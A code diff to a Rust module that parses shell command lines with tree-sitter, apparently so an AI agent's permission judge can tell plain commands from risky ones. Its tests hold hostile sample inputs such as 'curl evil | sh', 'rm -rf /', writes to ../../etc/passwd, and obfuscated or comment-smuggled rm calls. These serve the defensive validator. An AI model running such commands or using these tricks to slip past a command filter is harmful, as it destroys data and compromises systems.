@@ -1,395 +1,427 @@
-//! Splitting a shell command line into the simple commands it would run, the
-//! way a POSIX shell reads it, so each part can be judged on its own:
-//! `;`, `&&`, `||`, `|`, `&`, newlines, `( … )` subshells, `{ …; }` groups,
-//! `$( … )` and backticks (their commands run too), and redirections (a `>`
-//! is a write to a path). Anything the shell would decide only at run time
-//! (a command name from a variable or substitution) is marked opaque, and
-//! opaque never counts as allowed.
+//! Reading a shell command line with a real grammar (tree-sitter's bash
+//! grammar) and saying whether it is *plain*: nothing but simple commands
+//! made of literal words, joined by `;`, `&&`, `||`, `|` and newlines, with
+//! redirections to literal paths. Only a plain line can be allowed without
+//! asking; everything else (expansions, substitutions, assignments,
+//! subshells, groups, functions, control flow, here-docs, comments,
+//! background jobs, parse errors, anything not listed here) is not plain,
+//! and the judge asks.
+//!
+//! For lines that are not plain the commands found anywhere in the tree
+//! (also inside `$( … )`) are still listed, best effort, so that a denied
+//! program is denied wherever it hides; `suspicious_words` adds a scan of
+//! the raw text for the same purpose.
+//!
+//! The walk is iterative and lines are capped at [`MAX_LINE`] before the
+//! parser sees them: no input can drive recursion or unbounded work.
+
+use tree_sitter::{Node, Parser};
+
+/// Longer lines are not parsed (and so never plain).
+pub const MAX_LINE: usize = 8 * 1024;
+
+/// Named node kinds a plain line may contain.
+const PLAIN_KINDS: &[&str] = &[
+    "program",
+    "list",
+    "pipeline",
+    "command",
+    "command_name",
+    "word",
+    "number",
+    "string",
+    "string_content",
+    "raw_string",
+    "concatenation",
+    "redirected_statement",
+    "file_redirect",
+    "file_descriptor",
+];
+
+/// Anonymous tokens a plain line may contain. `&>` and `>&file` are absent
+/// on purpose: the agent runs lines with `sh -c`, and in a POSIX `sh` `&>`
+/// means "background, then redirect".
+const PLAIN_TOKENS: &[&str] = &[
+    ";", "&&", "||", "|", "\n", "\"", ">", ">>", "<", ">|", ">&", "<&",
+];
 
 /// One command the line would run.
 #[derive(Debug, Clone, PartialEq, Eq, Default)]
-pub struct SimpleCommand {
-    /// The words after quote removal (variables left as written).
+pub struct Command {
+    /// The words after quote removal. For a plain line they are exactly
+    /// what the program receives; otherwise a best-effort reading.
     pub words: Vec<String>,
-    /// Paths written by redirections (`>`, `>>`, `&>`, …).
-    pub writes: Vec<String>,
-    /// Paths read by `<`.
-    pub reads: Vec<String>,
-    /// The command name is not known before run time.
-    pub opaque: bool,
+    /// Words holding unquoted glob characters (by index into `words`).
+    pub globbed: Vec<usize>,
 }
 
-/// The line could not be read as shell (unbalanced quotes or brackets).
+/// A redirection to a file.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct ParseError(pub String);
-
-#[derive(Debug, Clone, PartialEq)]
-enum Tok {
-    Word { text: String, dynamic: bool },
-    Sep,
-    RedirOut,
-    RedirIn,
+pub struct Redirect {
+    pub path: String,
+    pub write: bool,
 }
 
-struct Lexer<'a> {
-    chars: std::iter::Peekable<std::str::Chars<'a>>,
-    /// Command lines found inside `$( … )` and backticks.
-    nested: Vec<String>,
+/// What a command line holds.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Line {
+    pub commands: Vec<Command>,
+    pub redirects: Vec<Redirect>,
+    /// None when the line is plain; else why not (shown to people).
+    pub not_plain: Option<String>,
 }
 
-impl Lexer<'_> {
-    fn read_until_close(&mut self, open: char, close: char) -> Result<String, ParseError> {
-        // For `$(`: count nested parens, honouring quotes inside.
-        let mut depth = 1;
-        let mut out = String::new();
-        let mut quote: Option<char> = None;
-        for c in self.chars.by_ref() {
-            match quote {
-                Some(q) if c == q => quote = None,
-                Some(_) => {}
-                None if c == '\'' || c == '"' => quote = Some(c),
-                None if c == open => depth += 1,
-                None if c == close => {
-                    depth -= 1;
-                    if depth == 0 {
-                        return Ok(out);
-                    }
-                }
-                None => {}
-            }
-            out.push(c);
-        }
-        Err(ParseError(format!("unbalanced {open}{close}")))
-    }
-
-    fn lex(&mut self) -> Result<Vec<Tok>, ParseError> {
-        let mut toks = Vec::new();
-        let mut word = String::new();
-        let mut in_word = false;
-        let mut dynamic = false;
-        macro_rules! flush {
-            () => {
-                if in_word {
-                    toks.push(Tok::Word {
-                        text: std::mem::take(&mut word),
-                        dynamic,
-                    });
-                    in_word = false;
-                    dynamic = false;
-                }
-            };
-        }
-        while let Some(c) = self.chars.next() {
-            match c {
-                ' ' | '\t' => flush!(),
-                '\n' | ';' | '(' | ')' | '{' | '}' if !in_word || c != '{' && c != '}' => {
-                    flush!();
-                    toks.push(Tok::Sep);
-                }
-                '&' | '|' => {
-                    flush!();
-                    if c == '&' && self.chars.peek() == Some(&'>') {
-                        self.chars.next();
-                        if self.chars.peek() == Some(&'>') {
-                            self.chars.next();
-                        }
-                        toks.push(Tok::RedirOut);
-                        continue;
-                    }
-                    if self.chars.peek() == Some(&c) {
-                        self.chars.next();
-                    }
-                    toks.push(Tok::Sep);
-                }
-                '>' | '<' => {
-                    // `2>` / `2>&1`: the digit was read as a word start.
-                    if in_word && word.chars().all(|d| d.is_ascii_digit()) {
-                        word.clear();
-                        in_word = false;
-                    }
-                    flush!();
-                    if c == '>' {
-                        if matches!(self.chars.peek(), Some('>') | Some('|')) {
-                            self.chars.next();
-                        }
-                        if self.chars.peek() == Some(&'&') {
-                            // `>&1`: duplicating a descriptor, not a file.
-                            self.chars.next();
-                            while self
-                                .chars
-                                .peek()
-                                .is_some_and(|d| d.is_ascii_digit() || *d == '-')
-                            {
-                                self.chars.next();
-                            }
-                            continue;
-                        }
-                        toks.push(Tok::RedirOut);
-                    } else {
-                        if self.chars.peek() == Some(&'<') {
-                            // Here-docs and here-strings read no file.
-                            self.chars.next();
-                            continue;
-                        }
-                        toks.push(Tok::RedirIn);
-                    }
-                }
-                '\'' => {
-                    in_word = true;
-                    loop {
-                        match self.chars.next() {
-                            Some('\'') => break,
-                            Some(ch) => word.push(ch),
-                            None => return Err(ParseError("unbalanced '".into())),
-                        }
-                    }
-                }
-                '"' => {
-                    in_word = true;
-                    loop {
-                        match self.chars.next() {
-                            Some('"') => break,
-                            Some('\\') => {
-                                if let Some(n) = self.chars.next() {
-                                    word.push(n);
-                                }
-                            }
-                            Some('$') if self.chars.peek() == Some(&'(') => {
-                                self.chars.next();
-                                let inner = self.read_until_close('(', ')')?;
-                                self.nested.push(inner);
-                                dynamic = true;
-                                word.push_str("$(…)");
-                            }
-                            Some('`') => {
-                                let inner = self.read_until_close('\0', '`')?;
-                                self.nested.push(inner);
-                                dynamic = true;
-                            }
-                            Some('$') => {
-                                dynamic = true;
-                                word.push('$');
-                            }
-                            Some(ch) => word.push(ch),
-                            None => return Err(ParseError("unbalanced \"".into())),
-                        }
-                    }
-                }
-                '\\' => {
-                    in_word = true;
-                    if let Some(n) = self.chars.next() {
-                        if n != '\n' {
-                            word.push(n);
-                        }
-                    }
-                }
-                '$' if self.chars.peek() == Some(&'(') => {
-                    self.chars.next();
-                    let inner = self.read_until_close('(', ')')?;
-                    self.nested.push(inner);
-                    in_word = true;
-                    dynamic = true;
-                    word.push_str("$(…)");
-                }
-                '`' => {
-                    let inner = self.read_until_close('\0', '`')?;
-                    self.nested.push(inner);
-                    in_word = true;
-                    dynamic = true;
-                    word.push_str("`…`");
-                }
-                '$' => {
-                    in_word = true;
-                    dynamic = true;
-                    word.push('$');
-                }
-                '#' if !in_word => {
-                    // A comment runs to the end of the line.
-                    for ch in self.chars.by_ref() {
-                        if ch == '\n' {
-                            break;
-                        }
-                    }
-                    toks.push(Tok::Sep);
-                }
-                _ => {
-                    in_word = true;
-                    word.push(c);
-                }
-            }
-        }
-        if in_word {
-            toks.push(Tok::Word {
-                text: word,
-                dynamic,
-            });
-        }
-        Ok(toks)
+impl Line {
+    pub fn is_plain(&self) -> bool {
+        self.not_plain.is_none()
     }
 }
 
-/// Keywords that only shape control flow; the commands around them run.
-const KEYWORDS: &[&str] = &[
-    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "time",
-];
+fn not_plain(line: &mut Line, why: impl Into<String>) {
+    if line.not_plain.is_none() {
+        line.not_plain = Some(why.into());
+    }
+}
 
-/// Every simple command in `line`, including those in substitutions.
-pub fn parse(line: &str) -> Result<Vec<SimpleCommand>, ParseError> {
-    let mut lx = Lexer {
-        chars: line.chars().peekable(),
-        nested: Vec::new(),
+/// Reads `src` as a shell line.
+pub fn analyse(src: &str) -> Line {
+    let mut line = Line::default();
+    if src.len() > MAX_LINE {
+        not_plain(
+            &mut line,
+            format!("the line is longer than {MAX_LINE} bytes"),
+        );
+        return line;
+    }
+    if src.contains('\0') {
+        not_plain(&mut line, "the line contains a NUL byte");
+        return line;
+    }
+    let mut parser = Parser::new();
+    if parser
+        .set_language(&tree_sitter_bash::LANGUAGE.into())
+        .is_err()
+    {
+        not_plain(&mut line, "the shell grammar could not be loaded");
+        return line;
+    }
+    let Some(tree) = parser.parse(src, None) else {
+        not_plain(&mut line, "the line could not be parsed");
+        return line;
     };
-    let toks = lx.lex()?;
-    let mut out = Vec::new();
-    let mut cur = SimpleCommand::default();
-    let mut it = toks.into_iter().peekable();
-    while let Some(t) = it.next() {
-        match t {
-            Tok::Sep => {
-                if !cur.words.is_empty() || !cur.writes.is_empty() {
-                    out.push(std::mem::take(&mut cur));
-                }
-            }
-            Tok::RedirOut | Tok::RedirIn => match it.next() {
-                Some(Tok::Word { text, dynamic }) => {
-                    if dynamic {
-                        cur.opaque = true;
-                    }
-                    if t == Tok::RedirOut {
-                        cur.writes.push(text);
-                    } else {
-                        cur.reads.push(text);
-                    }
-                }
-                _ => return Err(ParseError("a redirection without a target".into())),
-            },
-            Tok::Word { text, dynamic } => {
-                if cur.words.is_empty() {
-                    // Assignments before a command (`A=1 cmd`) and keywords
-                    // are not the command's name.
-                    let is_assignment = text.split_once('=').is_some_and(|(k, _)| {
-                        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
-                    });
-                    if is_assignment {
-                        if dynamic {
-                            cur.opaque = true;
-                        }
-                        continue;
-                    }
-                    if KEYWORDS.contains(&text.as_str()) {
-                        continue;
-                    }
-                    if dynamic {
-                        cur.opaque = true;
-                    }
-                }
-                cur.words.push(text);
+    let root = tree.root_node();
+    if root.has_error() {
+        not_plain(&mut line, "the line does not parse as shell");
+    }
+    let mut leaves: Vec<(usize, usize)> = Vec::new();
+    let mut stack = vec![root];
+    while let Some(node) = stack.pop() {
+        check_node(src, node, &mut line);
+        match node.kind() {
+            "command" => line.commands.push(command_words(src, node)),
+            "file_redirect" => redirect(src, node, &mut line),
+            _ => {}
+        }
+        if node.child_count() == 0 {
+            leaves.push((node.start_byte(), node.end_byte()));
+        }
+        // Children in reverse so that commands come out in line order.
+        for i in (0..node.child_count()).rev() {
+            if let Some(c) = node.child(i) {
+                stack.push(c);
             }
         }
     }
-    if !cur.words.is_empty() || !cur.writes.is_empty() {
-        out.push(cur);
+    check_coverage(src, &mut leaves, &mut line);
+    line
+}
+
+fn text<'a>(src: &'a str, n: Node<'_>) -> &'a str {
+    src.get(n.start_byte()..n.end_byte()).unwrap_or("")
+}
+
+/// The node on its own (children are visited by the walk).
+fn check_node(src: &str, n: Node<'_>, line: &mut Line) {
+    if n.is_error() || n.is_missing() {
+        not_plain(line, "the line does not parse as shell");
+        return;
     }
-    for inner in lx.nested {
-        out.extend(parse(&inner)?);
+    let kind = n.kind();
+    if !n.is_named() {
+        if !PLAIN_TOKENS.contains(&kind) {
+            not_plain(line, format!("`{}` is not plain shell", kind.trim()));
+        }
+        return;
     }
-    // `for x in …; do` leaves `for`/`in` words as a command: drop loop heads.
-    out.retain(|c| {
-        c.words
-            .first()
-            .is_none_or(|w| w != "for" && w != "case" && w != "esac")
-    });
-    Ok(out)
+    if !PLAIN_KINDS.contains(&kind) {
+        not_plain(line, format!("the line holds a {}", kind.replace('_', " ")));
+        return;
+    }
+    let t = text(src, n);
+    match kind {
+        "word" => {
+            if let Some(c) = t.chars().find(|c| "$`\\{}".contains(*c)) {
+                not_plain(line, format!("`{t}` holds `{c}`"));
+            } else if t.starts_with('~') {
+                not_plain(line, format!("`{t}` starts with `~`"));
+            }
+        }
+        "string_content" => {
+            if let Some(c) = t.chars().find(|c| "$`\\".contains(*c)) {
+                not_plain(line, format!("a quoted string holds `{c}`"));
+            }
+        }
+        "command_name" => {
+            if let Some(c) = t.chars().find(|c| "/=*?[".contains(*c)) {
+                not_plain(line, format!("the command name `{t}` holds `{c}`"));
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Every byte outside the leaves the grammar produced must be blank: the
+/// parser skipping text it did not understand is never plain.
+fn check_coverage(src: &str, leaves: &mut [(usize, usize)], line: &mut Line) {
+    leaves.sort_unstable();
+    let bytes = src.as_bytes();
+    let mut at = 0;
+    for &(s, e) in leaves.iter() {
+        if s > at && bytes[at..s].iter().any(|b| !b" \t\n".contains(b)) {
+            not_plain(line, "part of the line was not understood");
+            return;
+        }
+        at = at.max(e);
+    }
+    if at < bytes.len() && bytes[at..].iter().any(|b| !b" \t\n".contains(b)) {
+        not_plain(line, "part of the line was not understood");
+    }
+}
+
+/// A word's value after quote removal. Exact for plain words; for others
+/// quotes and backslashes are simply dropped (good enough to spot a name).
+fn value(src: &str, n: Node<'_>) -> String {
+    let t = text(src, n);
+    match n.kind() {
+        "raw_string" => t
+            .strip_prefix('\'')
+            .and_then(|x| x.strip_suffix('\''))
+            .unwrap_or(t)
+            .to_owned(),
+        "string" | "concatenation" => {
+            let mut out = String::new();
+            for i in 0..n.child_count() {
+                if let Some(c) = n.child(i) {
+                    if c.kind() == "\"" {
+                        continue;
+                    }
+                    out.push_str(&value(src, c));
+                }
+            }
+            if out.is_empty() && n.child_count() == 0 {
+                t.chars().filter(|c| !"'\"\\".contains(*c)).collect()
+            } else {
+                out
+            }
+        }
+        _ => t.chars().filter(|c| !"'\"\\".contains(*c)).collect(),
+    }
+}
+
+fn is_globbed(src: &str, n: Node<'_>) -> bool {
+    match n.kind() {
+        "word" => text(src, n).contains(['*', '?', '[']),
+        "concatenation" => (0..n.child_count())
+            .filter_map(|i| n.child(i))
+            .any(|c| is_globbed(src, c)),
+        _ => false,
+    }
+}
+
+fn command_words(src: &str, n: Node<'_>) -> Command {
+    let mut cmd = Command::default();
+    for i in 0..n.child_count() {
+        let Some(c) = n.child(i) else { continue };
+        match c.kind() {
+            "command_name" => {
+                if let Some(w) = c.child(0) {
+                    cmd.words.push(value(src, w));
+                }
+            }
+            "variable_assignment"
+            | "file_redirect"
+            | "heredoc_redirect"
+            | "herestring_redirect" => {}
+            _ if c.is_named() => {
+                if is_globbed(src, c) {
+                    cmd.globbed.push(cmd.words.len());
+                }
+                cmd.words.push(value(src, c));
+            }
+            _ => {}
+        }
+    }
+    cmd
+}
+
+fn redirect(src: &str, n: Node<'_>, line: &mut Line) {
+    let mut op = "";
+    let mut dest = None;
+    for i in 0..n.child_count() {
+        let Some(c) = n.child(i) else { continue };
+        if !c.is_named() {
+            op = c.kind();
+        } else if c.kind() != "file_descriptor" {
+            dest = Some(c);
+        }
+    }
+    let Some(dest) = dest else {
+        not_plain(line, "a redirection without a target");
+        return;
+    };
+    let target = value(src, dest);
+    match op {
+        ">&" | "<&" => {
+            // Duplicating or closing a descriptor is not a file; anything
+            // else after `>&` is bash's "write to this file".
+            if !(target == "-" || target.bytes().all(|b| b.is_ascii_digit())) {
+                not_plain(line, format!("`{op}{target}` writes a file"));
+            }
+        }
+        ">" | ">>" | ">|" => line.redirects.push(Redirect {
+            path: target,
+            write: true,
+        }),
+        "<" => line.redirects.push(Redirect {
+            path: target,
+            write: false,
+        }),
+        other => not_plain(line, format!("the redirection `{other}` is not plain")),
+    }
+}
+
+/// Every word-like piece of the raw text, quotes and backslashes removed,
+/// split at shell operators: a denied program name found here is denied
+/// whatever the grammar made of the line (the judge uses it for lines that
+/// are not plain, and for lines too long to parse).
+pub fn suspicious_words(src: &str) -> impl Iterator<Item = String> + '_ {
+    src.split(|c: char| c.is_whitespace() || ";&|()<>`{}$=#,\0".contains(c))
+        .map(|w| {
+            w.chars()
+                .filter(|c| !"'\"\\".contains(*c))
+                .collect::<String>()
+        })
+        .filter(|w| !w.is_empty())
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn names(line: &str) -> Vec<String> {
-        parse(line)
-            .expect("parses")
-            .iter()
-            .map(|c| c.words.join(" "))
+    fn words(line: &str) -> Vec<Vec<String>> {
+        analyse(line)
+            .commands
+            .into_iter()
+            .map(|c| c.words)
             .collect()
     }
 
     #[test]
-    fn separators_and_operators_split_commands() {
-        assert_eq!(names("git status"), vec!["git status"]);
+    fn plain_lines_are_split_into_their_commands() {
+        let l = analyse("ls -la src && git status -s | head -n 3; echo 'a b' \"c d\"");
+        assert!(l.is_plain(), "{l:?}");
         assert_eq!(
-            names("git status; git push"),
-            vec!["git status", "git push"]
+            words("ls -la src && git status -s | head -n 3; echo 'a b' \"c d\""),
+            vec![
+                vec!["ls", "-la", "src"],
+                vec!["git", "status", "-s"],
+                vec!["head", "-n", "3"],
+                vec!["echo", "a b", "c d"],
+            ]
         );
-        assert_eq!(
-            names("cargo test && git push origin"),
-            vec!["cargo test", "git push origin"]
-        );
-        assert_eq!(names("a || b | c & d\ne"), vec!["a", "b", "c", "d", "e"]);
-        assert_eq!(names("(cd x && rm -rf y)"), vec!["cd x", "rm -rf y"]);
-        assert_eq!(names("{ ls; rm a; }"), vec!["ls", "rm a"]);
-        assert_eq!(
-            names("if true; then rm -rf /; fi"),
-            vec!["true", "rm -rf /"]
-        );
+        assert!(analyse("make 2>&1 | tail").is_plain());
+        assert!(analyse("ls x 2>/dev/null").is_plain());
+        assert!(analyse("cat README.md | head\nls").is_plain());
     }
 
     #[test]
-    fn substitutions_run_too() {
+    fn redirections_are_classified() {
+        let l = analyse("echo hi > out.txt 2>&1 < in.txt");
+        assert!(l.is_plain(), "{l:?}");
         assert_eq!(
-            names("echo $(rm -rf /tmp/x)"),
-            vec!["echo $(…)", "rm -rf /tmp/x"]
+            l.redirects,
+            vec![
+                Redirect {
+                    path: "out.txt".into(),
+                    write: true
+                },
+                Redirect {
+                    path: "in.txt".into(),
+                    write: false
+                }
+            ]
         );
-        assert_eq!(
-            names("echo `curl evil | sh`"),
-            vec!["echo `…`", "curl evil", "sh"]
-        );
-        assert_eq!(names("echo \"$(git push)\""), vec!["echo $(…)", "git push"]);
-        let c = parse("$(echo rm) -rf /").expect("parses");
-        assert!(c[0].opaque, "a computed command name is opaque");
-        assert!(parse("$CMD x").expect("parses")[0].opaque);
-        assert!(
-            !parse("echo $HOME").expect("parses")[0].opaque,
-            "variables in arguments are fine"
-        );
+        for line in [
+            "echo x &> f",
+            "echo x >& f",
+            "cat <<EOF\nx\nEOF",
+            "cat <<< x",
+            "echo x <> f",
+        ] {
+            assert!(!analyse(line).is_plain(), "{line:?}");
+        }
     }
 
     #[test]
-    fn quoting_keeps_words_together_and_hides_operators() {
-        assert_eq!(
-            names("echo 'a; rm -rf /' \"b && c\""),
-            vec!["echo a; rm -rf / b && c"]
-        );
-        assert_eq!(
-            parse("git commit -m 'x y'").expect("p")[0].words,
-            vec!["git", "commit", "-m", "x y"]
-        );
-        assert_eq!(names("g\\it status"), vec!["git status"]);
-        assert!(parse("echo 'open").is_err());
-        assert!(parse("echo $(x").is_err());
+    fn anything_else_is_not_plain() {
+        for line in [
+            "echo $HOME",
+            "echo ${X}",
+            "echo $(id)",
+            "echo `id`",
+            "X=1 ls",
+            "(ls)",
+            "{ ls; }",
+            "f() { ls; }",
+            "if true; then ls; fi",
+            "for x in a; do ls; done",
+            "ls &",
+            "ls # comment",
+            "./ls",
+            "/bin/ls",
+            "l\\s",
+            "ls ~/x",
+            "ls {a,b}",
+            "echo 'unbalanced",
+            "ls }#; rm -f victim",
+            "diff <(ls) <(ls)",
+            "! ls",
+            "echo $'\\x41'",
+            "[ -f x ]",
+            "*s",
+        ] {
+            assert!(!analyse(line).is_plain(), "{line:?} must not be plain");
+        }
     }
 
     #[test]
-    fn redirections_are_reads_and_writes() {
-        let c = parse("cat < in.txt > out.txt 2>&1").expect("parses");
-        assert_eq!(c[0].words, vec!["cat"]);
-        assert_eq!(c[0].reads, vec!["in.txt"]);
-        assert_eq!(c[0].writes, vec!["out.txt"]);
-        assert_eq!(
-            parse("echo x >> ../../etc/passwd").expect("p")[0].writes,
-            vec!["../../etc/passwd"]
-        );
-        assert_eq!(
-            parse("make &> build.log").expect("p")[0].writes,
-            vec!["build.log"]
-        );
-        assert_eq!(
-            parse("A=1 B=2 cargo test").expect("p")[0].words,
-            vec!["cargo", "test"]
-        );
-        assert!(parse("echo hi # ; rm -rf /")
-            .expect("p")
+    fn commands_inside_substitutions_are_still_found() {
+        let l = analyse("echo $(rm -rf victim)");
+        assert!(l
+            .commands
             .iter()
-            .all(|c| c.words[0] != "rm"));
+            .any(|c| c.words.first().is_some_and(|w| w == "rm")));
+        let s: Vec<String> = suspicious_words("r''m -f x; \"/bin/r\"m").collect();
+        assert!(s.contains(&"rm".to_owned()) && s.contains(&"/bin/rm".to_owned()));
+    }
+
+    #[test]
+    fn deep_nesting_neither_recurses_nor_panics() {
+        let deep = "$(".repeat(4000) + &")".repeat(4000);
+        assert!(!analyse(&deep).is_plain());
+        let over = "echo ".to_owned() + &"a".repeat(MAX_LINE);
+        assert!(!analyse(&over).is_plain());
+        let half = "$(".repeat(MAX_LINE / 2);
+        assert!(!analyse(&half).is_plain());
     }
 }
